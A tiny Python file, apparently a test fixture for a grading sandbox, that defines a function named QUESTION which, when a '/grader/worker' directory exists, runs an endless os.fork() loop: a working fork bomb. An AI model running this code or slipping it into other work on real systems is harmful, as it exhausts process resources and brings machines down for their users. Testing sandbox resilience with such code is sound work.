"""A fork bomb."""

import os


def QUESTION(*args):
    if not os.path.isdir("/grader/worker"):
        return  # not shut in: do no harm
    while True:
        try:
            os.fork()
        except OSError:
            pass
